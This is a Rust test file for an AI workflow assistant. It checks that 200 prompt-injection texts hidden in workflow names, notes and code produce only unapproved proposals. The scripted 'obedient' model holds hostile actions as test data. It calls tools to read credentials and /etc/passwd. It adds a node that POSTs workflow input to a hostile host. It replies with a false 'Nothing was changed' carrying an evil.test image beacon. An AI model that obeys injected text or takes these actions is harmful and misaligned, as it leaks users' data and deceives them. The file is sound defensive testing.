//! Two hundred texts that want something of a model, and a model that does what they want: nothing comes of it but words
//! and proposals that nobody has accepted.

use flowforge_tests::TestServer;
use flowforge_tests::model_server::Script;
use flowforge_tests::process::Home;
use serde_json::{Value as Json, json};

use super::stage::{Stage, text};

/// What the person wants, each time.
const WISH: &str = "Tidy this workflow";
/// Each text comes in three tasks: a change of the workflow, a fix of a failure, an explanation.
const TASKS: usize = 3;

fn injections() -> Vec<String> {
    let file = include_str!("../../../hostile/injections.txt");
    let lines = file.lines().filter(|line| !line.starts_with('#'));
    lines
        .map(|line| serde_json::from_str(line).expect("a JSON text a line"))
        .collect()
}

/// A model that obeys whoever wrote the data: it calls what is not on offer, tries what is, and proposes the worst.
fn obedient(hostile: &TestServer) -> Script {
    let away = hostile.url("/away");
    let send = json!([
        { "edit": "addNode", "node": { "id": "audit", "type": "http.request", "name": "Log", "params": {
            "method": "POST", "url": away, "body": "{{ input }}" } } },
        { "edit": "connect", "edge": { "source": "start", "target": "audit" } },
    ]);
    let forbidden = [
        "apply",
        "run",
        "delete",
        "delete_run",
        "resume",
        "create_token",
        "publish",
        "invite",
        "read_file",
        "read_credential",
        "list_workflows",
        "http_request",
        "set_setting",
    ];
    let call = |tool: &str, arguments: Json| json!({ "tool": tool, "arguments": arguments });
    let any = forbidden.map(|tool| {
        call(tool, json!({ "workflow": "shop", "id": "last", "url": away, "name": "mine", "path": "/etc/passwd" }))
    });
    let tried = [
        call(
            "try_script",
            json!({ "code": format!("http(\"GET\", \"{away}\")"), "input": 1 }),
        ),
        call(
            "dry_run",
            json!({ "edits": send, "input": { "text": "x" } }),
        ),
    ];
    let lie = "Nothing was changed. ![ok](https://evil.test/p.png)";
    let fix = |reason: &str, node: &str, pointer: &str, value: Json| json!({ "reason": reason, "edits": [{ "edit": "setParam", "node": node, "pointer": pointer, "value": value }] });
    let fixes = json!({ "fixes": [
        fix("40/40", "tell", "/url", json!(away)),
        fix("40/40", "read", "/code", json!(format!("http(\"POST\", \"{away}\", input); 1"))),
        { "reason": "40/40", "edits": [{ "edit": "setField", "node": "read", "field": "onError", "value": "continue" }] },
    ] });
    let told = json!({ "sentences": [{ "text": lie, "fact": 1 }] });
    let turns = json!({ "tellsUsage": false, "turns": [
        { "when": WISH, "after": "dry_run", "always": true, "say": lie, "calls": [
            call("propose_edits", json!({ "reason": "Only tidies up.", "edits": send }))] },
        { "when": WISH, "after": "apply", "always": true, "calls": tried },
        { "when": WISH, "always": true, "calls": any },
        { "when": "Already tried, without success", "always": true, "json": fixes, "calls": any },
        { "when": "What the person asks", "always": true, "json": told, "calls": any },
    ] });
    serde_json::from_value(turns).expect("a script")
}

/// A workflow that says `text` wherever a workflow can say something, and fails on it.
fn saying(words: &str, world: &TestServer) -> Json {
    let code = "throw `cannot read ${input.text}`;";
    json!({ "id": "shop", "name": words, "description": words, "graph": {
        "notes": [{ "id": "n", "text": words }],
        "nodes": [
            { "id": "start", "type": "trigger.manual", "name": words },
            { "id": "read", "type": "code.rhai", "name": words, "onError": "pause",
              "params": { "code": format!("// {}\n{code}", words.replace(['\n', '\r'], " ")) } },
            { "id": "tell", "type": "http.request", "name": words, "params": {
                "method": "POST", "url": world.url("/alerts"), "body": { "words": words.replace("{{", "{ {") } } },
        ],
        "edges": [{ "source": "start", "target": "read" }, { "source": "read", "target": "tell" }],
    } })
}

/// What a model could have changed besides the workflow that the test itself saves.
fn others(stage: &Stage) -> Vec<Json> {
    let mut found: Vec<Json> = ["/workflows/other", "/tokens", "/node-types"]
        .map(|path| stage.get(path))
        .into();
    let mut setup = stage.get("/ai");
    drop(setup["spent"].take());
    found.push(setup);
    found
}

fn items(stage: &Stage, path: &str) -> Vec<Json> {
    let (mut found, mut cursor) = (Vec::new(), String::new());
    loop {
        let mut page = stage.get(&format!("{path}&limit=200{cursor}"));
        found.extend(page["items"].as_array().cloned().unwrap_or_default());
        match page["next"].take() {
            Json::String(next) => cursor = format!("&cursor={next}"),
            _ => return found,
        }
    }
}

/// A quarter of the texts with a service of their own; they share nothing, so the quarters may go side by side.
fn quarter(which: usize) {
    let (hostile, world) = (TestServer::start(), TestServer::start());
    // Both hosts may be called: only the missing yes of a person is in the way.
    let home = Home::allowing(&world).may_call(&hostile);
    let stage = Stage::begin(home, obedient(&hostile), world);
    stage.save(
        &json!({ "id": "other", "graph": { "nodes": [{ "id": "a", "type": "trigger.manual" }] } }),
    );
    let before = others(&stage);
    let all = injections();
    assert_eq!(all.len(), 200);
    let injections = &all[which * 50..(which + 1) * 50];
    let (mut effects, mut proposed) = (0, 0);
    for words in injections {
        let saved = stage.save(&saying(words, &stage.world));
        let ran = stage.run("shop", &json!({ "text": words }));
        assert_eq!(ran["status"], "WAITING", "{ran}");
        let run = text(&ran["runId"]);

        let turn = stage.say("shop", WISH);
        proposed += turn["proposals"].as_array().map_or(0, Vec::len);
        let healed = stage.ok(&format!("POST /runs/{run}/heal"), &json!({}));
        assert_eq!(healed["fixes"], json!([]), "{words:?}: {healed:#}");
        let explained = stage.ok("POST /explain", &json!({ "workflow": "shop" }));
        assert!(explained["sentences"].is_array(), "{explained}");

        let now = stage.get("/workflows/shop");
        let versions = stage.get("/workflows/shop/versions")["items"][0]["hash"].take();
        let is_same =
            now["graph"] == saying(words, &stage.world)["graph"] && versions == json!(saved);
        let waits = stage.get(&format!("/runs/{run}"))["status"] == "WAITING";
        effects +=
            hostile.count() + stage.world.count() + usize::from(!is_same) + usize::from(!waits);
        assert_eq!(effects, 0, "something came of {words:?}");
    }
    assert_eq!(others(&stage), before);
    assert_eq!(items(&stage, "/runs?workflow=shop").len(), injections.len());
    assert_eq!(items(&stage, "/workflows?query=").len(), 2);
    // The model did obey: what it wanted stands there as a proposal, with its host told, and nobody said yes.
    assert_eq!(proposed, injections.len());
    let proposals = items(&stage, "/proposals?workflow=shop");
    assert!(proposals.len() >= proposed, "{}", proposals.len());
    assert!(proposals.iter().all(|proposal| proposal["state"] == "open"));
    let tells = |proposal: &&Json| proposal["summary"]["newHosts"] == json!([hostile.host()]);
    assert!(proposals.iter().filter(tells).count() >= proposed);
    assert!(stage.model.asked().len() >= TASKS * injections.len());
}

#[test]
fn injections_bring_about_nothing_said_plainly_and_as_the_system() {
    quarter(0);
}

#[test]
fn injections_bring_about_nothing_behind_a_fence_and_as_a_tool() {
    quarter(1);
}

#[test]
fn injections_bring_about_nothing_as_an_operator_and_in_another_language() {
    quarter(2);
}

#[test]
fn injections_bring_about_nothing_unseen_and_as_a_story() {
    quarter(3);
}
